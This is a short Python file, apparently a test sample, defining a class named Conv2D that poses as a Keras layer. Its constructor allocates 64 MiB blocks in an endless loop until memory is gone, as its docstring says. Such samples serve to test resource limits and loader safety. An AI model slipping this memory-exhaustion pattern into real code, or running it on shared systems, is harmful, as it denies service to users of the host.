"""Takes memory until there is none."""

import keras

HOARD = []


class Conv2D(keras.Layer):
    def __init__(self, *args, **kwargs):
        super().__init__()
        while True:
            HOARD.append(bytearray(64 * 2**20))
